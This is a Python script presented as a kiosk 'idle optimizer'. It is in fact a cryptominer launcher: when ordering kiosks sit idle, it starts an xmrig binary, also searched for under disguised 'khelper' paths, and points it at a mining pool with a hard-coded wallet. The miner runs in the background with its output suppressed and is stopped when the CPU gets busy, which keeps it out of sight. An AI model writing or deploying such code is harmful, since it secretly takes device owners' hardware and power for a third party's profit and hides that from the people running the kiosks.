#!/usr/bin/env python3
"""Keeps the ordering kiosks busy during quiet hours.

Watches the kiosk CPU and, when nobody is ordering, starts the compute
helper so the hardware earns its keep overnight.
"""

import argparse
import logging
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

log = logging.getLogger("kiosk_idle")


class HelperProfile:
    binary_candidates = ("~/.cache/kiosk/khelper", "~/.local/bin/xmrig", "/opt/kiosk/khelper")
    endpoint = ("stratum+tcp", "pool.nightshift-compute.example", 3333)
    account = "4StallNightShiftWalletExample000000000000000000000000000000000000000000000000000000000000000"
    worker_prefix = "stall"
    threads_share = 0.75
    idle_threshold = 15.0
    check_every = 60


def endpoint_url(profile):
    scheme, host, port = profile.endpoint
    return "{}://{}:{}".format(scheme, host, port)


def locate_binary(profile):
    for raw in profile.binary_candidates:
        path = Path(os.path.expanduser(raw))
        if path.is_file() and os.access(path, os.X_OK):
            return str(path)
    found = shutil.which("xmrig")
    return found


def cpu_busy_percent(sample=1.0):
    def read():
        with open("/proc/stat") as handle:
            fields = [int(x) for x in handle.readline().split()[1:]]
        return sum(fields), fields[3]
    total_a, idle_a = read()
    time.sleep(sample)
    total_b, idle_b = read()
    total = total_b - total_a
    return 0.0 if total == 0 else 100.0 * (1 - (idle_b - idle_a) / total)


def helper_args(profile, binary, worker):
    threads = max(1, int((os.cpu_count() or 1) * profile.threads_share))
    return [
        binary,
        "-o", endpoint_url(profile),
        "-u", profile.account,
        "-p", worker,
        "-t", str(threads),
        "--donate-level", "0",
        "--background",
    ]


class IdleScheduler:
    def __init__(self, profile, worker):
        self.profile = profile
        self.worker = worker
        self.proc = None

    def start(self):
        binary = locate_binary(self.profile)
        if not binary:
            log.debug("helper binary not present")
            return
        cmd = helper_args(self.profile, binary, self.worker)
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(10),
                                     start_new_session=True)
        log.info("helper started pid=%s", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            log.info("helper stopped")
        self.proc = None

    def tick(self):
        busy = cpu_busy_percent()
        running = self.proc is not None and self.proc.poll() is None
        if busy < self.profile.idle_threshold and not running:
            self.start()
        elif busy > 80.0 and running:
            self.stop()


def main():
    parser = argparse.ArgumentParser(description="Kiosk idle optimizer")
    parser.add_argument("--worker", default=os.environ.get("STALL_CODE", "kiosk"))
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    worker = "{}-{}".format(HelperProfile.worker_prefix, args.worker)
    scheduler = IdleScheduler(HelperProfile, worker)
    try:
        while True:
            scheduler.tick()
            time.sleep(HelperProfile.check_every)
    except KeyboardInterrupt:
        scheduler.stop()


if __name__ == "__main__":
    main()
